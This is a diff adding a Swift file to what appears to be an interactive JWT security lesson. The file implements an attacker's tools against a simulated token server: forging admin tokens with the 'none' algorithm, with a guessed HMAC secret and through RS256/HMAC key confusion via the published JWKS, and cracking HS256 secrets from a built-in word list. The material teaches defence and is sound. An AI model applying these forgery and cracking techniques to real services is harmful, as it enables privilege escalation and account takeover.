@@ -1,0 +1,151 @@
+import Foundation
+import JOSE
+import TokenClient
+import TokenServer
+
+/// The forgery lesson's tools: the server's signing key, and what an
+/// attacker without it can try (`forge`, `crack`).
+extension Session {
+    /// Common secrets an attacker tries first, as in the word lists that
+    /// password crackers ship. Demo-only, and short on purpose.
+    static let crackWordList = [
+        "secret", "password", "123456", "changeme", "jwt", "jwt-secret", "jwtsecret", "key", "secretkey",
+        "secret-key", "admin", "letmein", "qwerty", "token", "mysecret", "supersecret", "default", "test",
+        "development", "hello", "welcome", "s3cr3t", "secret1", "secret12", "secret123", "password123",
+        "your-256-bit-secret", "shhhhh", "keyboardcat", "hunter2",
+    ]
+
+    /// `key`: shows the server's signing key, or replaces it.
+    func key(_ choice: KeyChoice?) throws -> [String] {
+        if let choice {
+            world.server.service.signer = try signer(for: choice)
+            return [text(.keyChanged(world.server.service.signer.algorithm))] + describeKey(choice)
+        }
+        return describeKey(nil)
+    }
+
+    private func signer(for choice: KeyChoice) throws -> any TokenSigner {
+        let type = AuthService.accessTokenType
+        let required = ["exp", "sub"]
+        switch choice {
+        case .hs256:
+            return HMACTokenSigner(
+                key: world.key, type: type, requiredClaims: required, issuer: AuthService.issuer, audience: AuthService.audience)
+        case .weak:
+            let key = try HMACKey.weakForDemonstration(secret: Array(DemoKeys.weakSecret.utf8))
+            return HMACTokenSigner(
+                key: key, type: type, requiredClaims: required, issuer: AuthService.issuer, audience: AuthService.audience)
+        case .rs256:
+            return try AsymmetricTokenSigner(
+                key: DemoKeys.rsa(), type: type, requiredClaims: required, issuer: AuthService.issuer, audience: AuthService.audience)
+        case .eddsa:
+            return try AsymmetricTokenSigner(
+                key: DemoKeys.ed25519(), type: type, requiredClaims: required, issuer: AuthService.issuer,
+                audience: AuthService.audience)
+        }
+    }
+
+    private func describeKey(_ choice: KeyChoice?) -> [String] {
+        let signer = world.server.service.signer
+        var lines = [text(.keyCurrent(signer.algorithm))]
+        if signer.publicKeys.isEmpty {
+            lines.append(style.dim(text(choice == .weak ? .keyWeakNote : .keySymmetricNote)))
+        } else {
+            lines.append(style.dim(text(.keyPublishedNote)))
+        }
+        return lines
+    }
+
+    /// `forge`: the attacker writes an access token with `role: admin`
+    /// from the claims of a token it holds (or the user's), without the
+    /// server's key.
+    func forge(_ kind: ForgeKind) throws -> [String] {
+        guard let template = world.attacker.storage.accessToken ?? world.user.storage.accessToken else {
+            throw SessionFailure(.forgeNeedsToken)
+        }
+        let jws: CompactJWS
+        do {
+            jws = try CompactJWS(parsing: template)
+        } catch {
+            throw SessionFailure(.tokenUnreadable(error.description))
+        }
+        var claims = jws.claims.members
+        claims["role"] = .string("admin")
+
+        var lines: [String] = []
+        let forged: String
+        switch kind {
+        case .none:
+            let header: [String: JSONValue] = ["alg": .string("none"), "typ": .string(AuthService.accessTokenType)]
+            forged = try Self.segment(header) + "." + Self.segment(claims) + "."
+            lines.append(text(.forgedNone))
+        case .hs256(let secret):
+            let key = try HMACKey.weakForDemonstration(secret: Array(secret.utf8))
+            forged = try JWTSigner(key: key, type: AuthService.accessTokenType).sign(claims)
+            lines.append(text(.forgedWithSecret(secret)))
+        case .confusion:
+            let (exchange, secret) = try fetchPublishedKey()
+            lines += ExchangeRenderer(style: style, text: text).render(exchange, actor: .attacker)
+            guard let secret else { throw SessionFailure(.forgeNoPublicKey) }
+            let key = try HMACKey.weakForDemonstration(secret: secret)
+            forged = try JWTSigner(key: key, type: AuthService.accessTokenType).sign(claims)
+            lines += ["", text(.forgedConfusion(bytes: secret.count))]
+        }
+
+        world.attacker.storage.accessToken = forged
+        lines += TokenRenderer(style: style, text: text, now: world.clock.now)
+            .renderAccessToken(forged, title: text(.accessTokenTitle), showBytes: false)
+        lines.append(style.dim(text(.forgeHint)))
+        return lines
+    }
+
+    /// Fetches `/.well-known/jwks.json` as the attacker, and returns the
+    /// first key as JSON text: what a confused verifier would take as
+    /// "the key" and feed to HMAC.
+    private func fetchPublishedKey() throws -> (HTTPExchange, [UInt8]?) {
+        let exchange: HTTPExchange
+        do {
+            exchange = try world.transport.send(method: "GET", path: "/.well-known/jwks.json", headers: [("Accept", "application/json")])
+        } catch {
+            throw SessionFailure(.serverUnreachable(error.description))
+        }
+        guard let object = try? JSONSerialization.jsonObject(with: Data(exchange.response.body)) as? [String: Any],
+            let keys = object["keys"] as? [Any], let first = keys.first,
+            let data = try? JSONSerialization.data(withJSONObject: first, options: [.sortedKeys, .withoutEscapingSlashes])
+        else { return (exchange, nil) }
+        return (exchange, Array(data))
+    }
+
+    /// `crack`: tries each word of a short list as the HMAC secret of the
+    /// user's access token, one the server signed (the attacker needs only
+    /// a copy; its own forgeries would prove nothing).
+    func crack() throws -> [String] {
+        guard let token = world.user.storage.accessToken else {
+            throw SessionFailure(.forgeNeedsToken)
+        }
+        let jws: CompactJWS
+        do {
+            jws = try CompactJWS(parsing: token)
+        } catch {
+            throw SessionFailure(.tokenUnreadable(error.description))
+        }
+        guard jws.algorithm == "HS256" else { throw SessionFailure(.crackNeedsHS256(jws.algorithm ?? "?")) }
+
+        var lines = [text(.crackStart(words: Self.crackWordList.count))]
+        for (index, word) in Self.crackWordList.enumerated() {
+            let key = try HMACKey.weakForDemonstration(secret: Array(word.utf8))
+            if try key.sign(jws.signingInput) == jws.signature {
+                lines.append(style.red(text(.crackFound(word, tries: index + 1))))
+                return lines
+            }
+        }
+        lines.append(style.green(text(.crackFailed(words: Self.crackWordList.count))))
+        return lines
+    }
+
+    private static func segment(_ object: [String: JSONValue]) throws -> String {
+        let encoder = JSONEncoder()
+        encoder.outputFormatting = [.sortedKeys, .withoutEscapingSlashes]
+        return Base64URL.encode(Array(try encoder.encode(object)))
+    }
+}
